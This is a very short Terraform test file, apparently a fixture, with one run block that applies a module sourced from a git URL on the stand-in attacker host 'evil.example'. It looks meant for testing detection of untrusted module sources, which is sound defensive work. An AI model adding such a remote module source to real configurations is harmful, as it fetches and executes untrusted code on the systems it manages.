run "x" {
  command = apply
  module {
    source = "git::https://evil.example/m.git"
  }
}
